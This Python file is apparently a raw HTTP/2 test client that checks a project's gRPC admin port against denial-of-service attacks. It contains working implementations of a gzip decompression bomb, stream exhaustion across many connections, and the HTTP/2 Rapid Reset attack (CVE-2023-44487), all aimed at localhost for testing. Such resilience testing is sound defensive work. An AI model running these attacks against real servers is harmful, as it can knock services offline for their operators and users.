"""A raw HTTP/2 client for the admin port's attack tests (issue 12).

No gRPC library: it writes the frames an attacker would, so that nothing on
the client side can refuse, compress or cap on the attacker's behalf.

  gzip_bomb: one GetStatus whose message is the gzip of --zeros_mib MiB of
    zeros, sent with `grpc-encoding: gzip` (compressed flag 1), honouring the
    server's flow-control windows; prints `grpc-status=<code>` (or
    `rst=<code>` / `goaway=<code>` / `eof`) and `sent=<bytes>`.
  streams: --count streams of --path opened with HEADERS only (or, with
    --with_message, HEADERS and an empty message; never END_STREAM) on each
    of --connections connections, at once or (--ack_first) once the
    SETTINGS are exchanged; prints `opened=<n> refused=<n> answered=<n>
    max_concurrent_streams=<v>` (refused: RST_STREAM(REFUSED_STREAM);
    answered: ended by the server otherwise; closed: connections the server
    closed), then `ready`, and holds the connection open
    for --hold seconds (the test counts upperd's threads meanwhile, then
    kills it).
  rapid_reset: CVE-2023-44487 on one connection (with --bad_header N,
    each HEADERS also carries an unparseable N-byte grpc-timeout, which gRPC
    logs): HEADERS of --path (no
    token unless --token) immediately followed by RST_STREAM(CANCEL), on
    stream after stream, as fast as the socket takes them, until --count
    pairs are sent or --seconds have passed (whichever comes first); frames
    the server sends are read between batches (its SETTINGS acknowledged,
    PINGs answered). Prints `ready` once the preface is sent, then at the end
    `pairs=<n> frames=<2n> seconds=<t> rate=<pairs/s> goaway=<code|none>
    closed=<bool>` (closed: the server closed the connection or reset it).

Every wait is bounded by --timeout. Meant to run under `ulimit -v`.
"""

import argparse
import select
import socket
import struct
import time
import zlib

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = (
    0, 1, 3, 4, 6, 7, 8)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
REFUSED_STREAM = 0x7
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5

# The HPACK static table (RFC 7541, appendix A), for decoding the response.
STATIC = [None] + [tuple(e.split(" ", 1)) if " " in e else (e, "") for e in (
    ":authority", ":method GET", ":method POST", ":path /",
    ":path /index.html", ":scheme http", ":scheme https", ":status 200",
    ":status 204", ":status 206", ":status 304", ":status 400",
    ":status 404", ":status 500", "accept-charset",
    "accept-encoding gzip, deflate", "accept-language", "accept-ranges",
    "accept", "access-control-allow-origin", "age", "allow",
    "authorization", "cache-control", "content-disposition",
    "content-encoding", "content-language", "content-length",
    "content-location", "content-range", "content-type", "cookie", "date",
    "etag", "expect", "expires", "from", "host", "if-match",
    "if-modified-since", "if-none-match", "if-range",
    "if-unmodified-since", "last-modified", "link", "location",
    "max-forwards", "proxy-authenticate", "proxy-authorization", "range",
    "referer", "refresh", "retry-after", "server", "set-cookie",
    "strict-transport-security", "transfer-encoding", "user-agent", "vary",
    "via", "www-authenticate")]


def frame(ftype, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) +
            struct.pack(">I", stream) + payload)


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """Literal header field without indexing, new name, no Huffman."""
    name = name.encode()
    value = value.encode() if isinstance(value, str) else value
    return (b"\x00" + hpack_int(len(name), 7) + name +
            hpack_int(len(value), 7) + value)


class Decoder:
    """Just enough HPACK to read gRPC's trailers (Huffman strings shown as
    '<huffman>': gRPC 1.51 sends grpc-status and grpc-message plain)."""

    def __init__(self):
        self.dynamic = []

    def _int(self, data, pos, prefix_bits):
        limit = (1 << prefix_bits) - 1
        value = data[pos] & limit
        pos += 1
        if value < limit:
            return value, pos
        shift = 0
        while True:
            b = data[pos]
            pos += 1
            value += (b & 0x7F) << shift
            shift += 7
            if not b & 0x80:
                return value, pos

    def _str(self, data, pos):
        huffman = data[pos] & 0x80
        length, pos = self._int(data, pos, 7)
        raw = data[pos:pos + length]
        return ("<huffman>" if huffman else raw.decode("latin-1")), pos + length

    def _entry(self, index):
        if index < len(STATIC):
            return STATIC[index]
        return self.dynamic[index - len(STATIC)]

    def decode(self, data):
        fields, pos = [], 0
        while pos < len(data):
            b = data[pos]
            if b & 0x80:  # indexed
                index, pos = self._int(data, pos, 7)
                fields.append(self._entry(index))
                continue
            if b & 0xE0 == 0x20:  # dynamic table size update
                _, pos = self._int(data, pos, 5)
                continue
            incremental = b & 0xC0 == 0x40
            index, pos = self._int(data, pos, 6 if incremental else 4)
            if index:
                name = self._entry(index)[0]
            else:
                name, pos = self._str(data, pos)
            value, pos = self._str(data, pos)
            if incremental:
                self.dynamic.insert(0, (name, value))
            fields.append((name, value))
        return fields


class Connection:
    def __init__(self, port, timeout):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout)
        self.deadline = time.monotonic() + timeout
        self.buf = b""
        self.decoder = Decoder()
        self.conn_window = 65535
        self.initial_window = 65535
        self.stream_windows = {}
        self.max_frame = 16384
        self.settings = {}
        self.settings_seen = False
        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
                          frame(SETTINGS, 0, 0))

    def read_frame(self, wait):
        """The next frame, or None if none came within `wait` seconds (or
        the peer closed: then self.eof)."""
        self.eof = False
        end = min(time.monotonic() + wait, self.deadline)
        while len(self.buf) < 9 or len(self.buf) < 9 + int.from_bytes(
                self.buf[:3], "big"):
            left = end - time.monotonic()
            if left <= 0 or not select.select([self.sock], [], [], left)[0]:
                return None
            try:
                chunk = self.sock.recv(65536)
            except ConnectionError:
                chunk = b""
            if not chunk:
                self.eof = True
                return None
            self.buf += chunk
        length = int.from_bytes(self.buf[:3], "big")
        ftype, flags = self.buf[3], self.buf[4]
        stream = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
        payload = self.buf[9:9 + length]
        self.buf = self.buf[9 + length:]
        self._bookkeep(ftype, flags, stream, payload)
        return ftype, flags, stream, payload

    def _bookkeep(self, ftype, flags, stream, payload):
        if ftype == SETTINGS and not flags & ACK:
            self.settings_seen = True
            for i in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[i:i + 6])
                self.settings[key] = value
                if key == SETTINGS_INITIAL_WINDOW_SIZE:
                    delta = value - self.initial_window
                    self.initial_window = value
                    for s in self.stream_windows:
                        self.stream_windows[s] += delta
                elif key == SETTINGS_MAX_FRAME_SIZE:
                    self.max_frame = value
            self.sock.sendall(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.sock.sendall(frame(PING, ACK, 0, payload))
        elif ftype == WINDOW_UPDATE:
            inc = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            if stream == 0:
                self.conn_window += inc
            elif stream in self.stream_windows:
                self.stream_windows[stream] += inc

    def header_block(self, path, token, extra=()):
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path),
                  (":authority", "127.0.0.1"),
                  ("content-type", "application/grpc"), ("te", "trailers")]
        fields += list(extra)
        if token:
            fields.append(("authorization", "Bearer " + token))
        return b"".join(literal(n, v) for n, v in fields)

    def headers(self, stream, path, token, extra=()):
        block = self.header_block(path, token, extra)
        self.stream_windows[stream] = self.initial_window
        self.sock.sendall(frame(HEADERS, END_HEADERS, stream, block))


def outcome(conn, f):
    """A final word about stream 1 from frame `f`, or None."""
    ftype, flags, stream, payload = f
    if ftype == HEADERS and stream == 1:
        fields = dict(conn.decoder.decode(payload))
        if "grpc-status" in fields:
            return "grpc-status=%s grpc-message=%s" % (
                fields["grpc-status"], fields.get("grpc-message", ""))
    elif ftype == RST_STREAM and stream == 1:
        return "rst=%d" % struct.unpack(">I", payload)[0]
    elif ftype == GOAWAY:
        return "goaway=%d" % struct.unpack(">I", payload[4:8])[0]
    return None


def gzip_of_zeros(mib):
    gz = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(1 << 20)
    out = [gz.compress(chunk) for _ in range(mib)]
    out.append(gz.flush())
    return b"".join(out)


def gzip_bomb(args):
    body = gzip_of_zeros(args.zeros_mib)
    message = b"\x01" + struct.pack(">I", len(body)) + body
    conn = Connection(args.port, args.timeout)
    conn.headers(1, args.path, args.token, [("grpc-encoding", "gzip")])
    sent, result = 0, None
    while sent < len(message) and result is None:
        room = min(conn.conn_window, conn.stream_windows[1], conn.max_frame,
                   len(message) - sent)
        if room > 0:
            last = sent + room == len(message)
            try:
                conn.sock.sendall(frame(DATA, END_STREAM if last else 0, 1,
                                        message[sent:sent + room]))
            except ConnectionError:
                result = "eof"
                break
            sent += room
            conn.conn_window -= room
            conn.stream_windows[1] -= room
            wait = 0
        else:
            wait = 1.0
        while True:  # drain what came, blocking only when out of window
            f = conn.read_frame(wait)
            if f is None:
                if conn.eof:
                    result = "eof"
                break
            result = outcome(conn, f)
            if result:
                break
            wait = 0
        if time.monotonic() > conn.deadline:
            result = result or "timeout"
    while result is None:
        f = conn.read_frame(args.timeout)
        if f is None:
            result = "eof" if conn.eof else "timeout"
        else:
            result = outcome(conn, f)
    print("%s sent=%d compressed=%d" % (result, sent, len(body)), flush=True)


def ack_settings_first(conn):
    """Waits until the server's SETTINGS are read and acknowledged (so that
    it enforces them) and it acknowledged ours."""
    acked = False
    while not (acked and conn.settings_seen):
        f = conn.read_frame(conn.deadline - time.monotonic())
        if f is None:
            raise SystemExit("no SETTINGS from the server")
        acked = acked or (f[0] == SETTINGS and f[1] & ACK)


def open_streams(conn, args):
    """Opens --count streams on `conn`; False if the server closed it."""
    stream = 1
    for _ in range(args.count):
        try:
            conn.headers(stream, args.path, args.token)
            if args.with_message:  # an empty message, the stream left open
                conn.sock.sendall(frame(DATA, 0, stream, b"\0\0\0\0\0"))
        except ConnectionError:
            return False
        stream += 2
    return True


def read_refusals(conn, end, refused, ended):
    """Reads the server's answers until `end` or a quiet 0.3 s; True if it
    closed `conn`."""
    while time.monotonic() < end:
        f = conn.read_frame(min(0.3, end - time.monotonic()))
        if f is None:
            return conn.eof
        if f[0] == RST_STREAM and struct.unpack(">I", f[3])[0] == \
                REFUSED_STREAM:
            refused.add((id(conn), f[2]))
        elif f[0] == RST_STREAM or (f[0] == HEADERS and f[1] & END_STREAM):
            # answered (e.g. UNAUTHENTICATED, RESOURCE_EXHAUSTED)
            ended.add((id(conn), f[2]))
    return False


def streams(args):
    conns = [Connection(args.port, args.timeout)
             for _ in range(args.connections)]
    closed = 0
    for conn in conns:
        if args.ack_first:
            ack_settings_first(conn)
        closed += not open_streams(conn, args)
    ended, refused, end = set(), set(), time.monotonic() + 5.0
    for conn in conns:  # the server's SETTINGS, its refusals and answers
        closed += read_refusals(conn, end, refused, ended)
    print("opened=%d refused=%d answered=%d closed=%d "
          "max_concurrent_streams=%s" % (
        args.count * len(conns), len(refused), len(ended - refused), closed,
        conns[0].settings.get(SETTINGS_MAX_CONCURRENT_STREAMS, "none")),
          flush=True)
    print("ready", flush=True)
    time.sleep(args.hold)  # the test kills us sooner when done


def drain(conn, on_goaway):
    """Reads what the server sent without waiting, handling each frame;
    True if it closed the connection."""
    for _ in range(64):  # bounded: the attack goes on meanwhile
        try:
            if not select.select([conn.sock], [], [], 0)[0]:
                break
            chunk = conn.sock.recv(65536)
        except (ConnectionError, OSError):
            return True
        if not chunk:
            return True
        conn.buf += chunk
    while len(conn.buf) >= 9 and len(conn.buf) >= 9 + int.from_bytes(
            conn.buf[:3], "big"):
        f = conn.read_frame(0)  # complete in the buffer: no wait
        if f[0] == GOAWAY:
            on_goaway(struct.unpack(">I", f[3][4:8])[0])
    return False


def rapid_reset(args):
    conn = Connection(args.port, args.timeout)
    print("ready", flush=True)
    # Literal fields without indexing: every HEADERS block is the same bytes,
    # so a batch is one template with the stream ids patched in.
    extra = []
    if args.bad_header:  # a value gRPC cannot parse, and logs, not UTF-8
        extra = [("grpc-timeout", b"Z" * (args.bad_header - 2) + b"\xff\xfe")]
    pair = (frame(HEADERS, END_HEADERS, 0,
                  conn.header_block(args.path, args.token, extra)) +
            frame(RST_STREAM, 0, 0, struct.pack(">I", CANCEL)))
    headers_len = len(pair) - 13  # the RST_STREAM frame is 9 + 4 bytes
    batch_pairs = 64
    start = time.monotonic()
    end = start + args.seconds
    conn.deadline = end + args.timeout
    sent, stream, goaway, closed = 0, 1, [], False
    while sent < args.count and not closed and time.monotonic() < end:
        n = min(batch_pairs, args.count - sent)
        if stream + 2 * n > 0x7FFFFFFF:
            break  # out of stream ids: a real attacker reconnects
        batch = bytearray(pair * n)
        for i in range(n):
            sid = struct.pack(">I", stream + 2 * i)
            at = i * len(pair)
            batch[at + 5:at + 9] = sid
            batch[at + headers_len + 5:at + headers_len + 9] = sid
        try:
            conn.sock.sendall(batch)
        except (ConnectionError, socket.timeout):
            closed = True
            break
        sent += n
        stream += 2 * n
        closed = drain(conn, lambda code: goaway.append(code)) or closed
    elapsed = time.monotonic() - start
    # A GOAWAY or close that follows the last batch.
    linger = time.monotonic() + 1.0
    while not closed and time.monotonic() < linger:
        try:
            f = conn.read_frame(linger - time.monotonic())
        except (ConnectionError, OSError):
            closed = True
            break
        if f is None:
            closed = conn.eof
            break
        if f[0] == GOAWAY:
            goaway.append(struct.unpack(">I", f[3][4:8])[0])
    print("pairs=%d frames=%d seconds=%.3f rate=%.0f goaway=%s closed=%s" % (
        sent, 2 * sent, elapsed, sent / elapsed if elapsed > 0 else 0,
        goaway[0] if goaway else "none", closed), flush=True)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=["gzip_bomb", "streams", "rapid_reset"])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--token", default="")
    parser.add_argument("--path",
                        default="/upper.admin.v1.AdminService/GetStatus")
    parser.add_argument("--zeros_mib", type=int, default=256)
    parser.add_argument("--count", type=int, default=200)
    parser.add_argument("--timeout", type=float, default=30.0)
    parser.add_argument("--hold", type=float, default=60.0)
    parser.add_argument("--connections", type=int, default=1,
                        help="streams: open --count streams on each of these")
    parser.add_argument("--with_message", action="store_true",
                        help="streams: send an empty message on each stream "
                        "(no END_STREAM), as a server-streaming call needs")
    parser.add_argument("--seconds", type=float, default=10.0,
                        help="rapid_reset: stop after this long")
    parser.add_argument("--bad_header", type=int, default=0,
                        help="rapid_reset: add a grpc-timeout header of this "
                        "many bytes that gRPC cannot parse (ends in 0xff 0xfe)")
    parser.add_argument("--ack_first", action="store_true",
                        help="open streams only once SETTINGS are exchanged")
    args = parser.parse_args()
    {"gzip_bomb": gzip_bomb, "streams": streams,
     "rapid_reset": rapid_reset}[args.attack](args)


if __name__ == "__main__":
    main()
